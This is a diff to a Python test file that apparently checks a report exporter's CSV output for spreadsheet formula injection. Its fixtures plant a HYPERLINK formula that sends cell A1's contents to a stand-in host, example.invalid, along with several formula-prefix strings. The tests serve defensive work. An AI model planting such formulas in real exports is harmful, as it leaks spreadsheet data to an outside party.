@@ -20,6 +20,7 @@ from desktop.services import assignment_packs, coordinator_rounds, observations,
 from desktop.services.demo_panel import panel_reviews
 from tests.services.exchange_world import enrolled_world, write_case_list
 from tests.services.panel_world import GOOD, MEMBERS, Panel
+from tests.services.publication_world import confirm_every_text
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Open")'
 REFERENCES = ("=1+1", "+1+1", "-1+1", "@SUM(1,1)")
@@ -69,6 +70,7 @@ def formula_panel(tmp_path_factory: pytest.TempPathFactory) -> Panel:
     for text, response in ((HYPERLINK, "=1+1"), ("@SUM(1,1) cases were late", "-1+1 days")):
         saved = observations.add_observation(db, created.round_id, text, case_ids[:2])
         observations.set_response(db, saved.observation_id, response, "2026-04-02")
+    confirm_every_text(db, created.round_id)  # every text kept, so every planted formula is published
     yield Panel(world, created.round_id, fates)
     db.close()
     for member in world.members.values():
@@ -82,9 +84,8 @@ def _records(path: Path) -> list[list[str]]:
 
 def _report_csvs(panel: Panel, folder: Path, mode: str) -> list[Path]:
     written = report.write_report(
-        panel.world.coordinator, panel.round_id, folder / f"{mode}.csv", ReportOptions("both", mode), "csv",
-        redact=[],  # blank nothing, so every planted formula reaches the file
-    )  # fmt: skip
+        panel.world.coordinator, panel.round_id, folder / f"{mode}.csv", ReportOptions("both", mode), "csv"
+    )
     return list(written.paths)
 
 
